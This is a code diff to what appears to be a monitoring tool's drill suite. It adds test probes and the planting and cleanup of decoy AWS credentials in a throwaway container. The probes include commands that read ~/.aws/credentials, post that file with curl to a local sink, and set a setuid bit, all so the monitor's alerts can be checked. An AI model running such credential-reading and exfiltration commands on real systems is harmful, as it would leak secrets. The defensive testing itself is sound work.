@@ -292,6 +292,30 @@ PROBES: tuple[Probe, ...] = (
         tools=("su",),
     ),
     Probe(
+        "canary opened",
+        "read-decoy-aws-credentials",
+        "cat {home}/.aws/credentials > /dev/null",
+        frozenset({"canary.open"}),
+        "high",
+    ),
+    Probe(
+        "canary sent out",
+        "post-decoy-aws-credentials",
+        "curl -s --max-time 3 --data-binary @{home}/.aws/credentials "
+        "http://{gateway}:{sink_port}/drill > /dev/null; true",
+        frozenset({"canary.network"}),
+        "critical",
+        tools=("curl",),
+    ),
+    Probe(
+        "rule pack (bundled)",
+        "chmod-setuid",
+        "chmod u+s {home}/drill-mode",  # its own empty file
+        frozenset({"bundled.setuid-bit-set"}),
+        "warning",
+        setup="touch {home}/drill-mode",
+    ),
+    Probe(
         "spawn storm",
         "fork-and-hold",
         SLEEPERS.replace("{count}", "{spawn_count}"),
@@ -727,8 +751,10 @@ class Drill:
     def container(self, events: MonitorEvents, needs_address: bool) -> Iterator[None]:
         """The drill container, running and watched by the monitor; deleted on the way out
         whatever happens (errors, Ctrl-C)."""
+        from coi_tui.monitor.canary import remove_registry
         from coi_tui.monitor.sudo_log_hook import install_sudo_log
         from coi_tui.paths import home_tag
+        from coi_tui.sessions.canary_hook import plant
         from coi_tui.sessions.manager import SessionManager
 
         devices: dict[str, dict[str, str]] = {
@@ -754,6 +780,7 @@ class Drill:
                 start=True,
             )
             install_sudo_log(self.incus, self.name)  # as a session's hook does: failed sudo
+            plant(self.incus, self.name, ["aws"], uid=self.settings.code_uid, home=self.home)
             watched = events.wait(
                 lambda m: m.get("type") == "watch" and m.get("container") == self.name,
                 WATCH_TIMEOUT_SEC,
@@ -771,6 +798,8 @@ class Drill:
             self.progress(f"deleting {self.name}")
             with contextlib.suppress(Exception):
                 self.incus.delete_instance(self.name, force=True)
+            with contextlib.suppress(OSError):
+                remove_registry(self.home, self.name)
 
     def missing_tools(self) -> set[str]:
         """The probes' tools (names from PROBES, never from the container) the image lacks."""
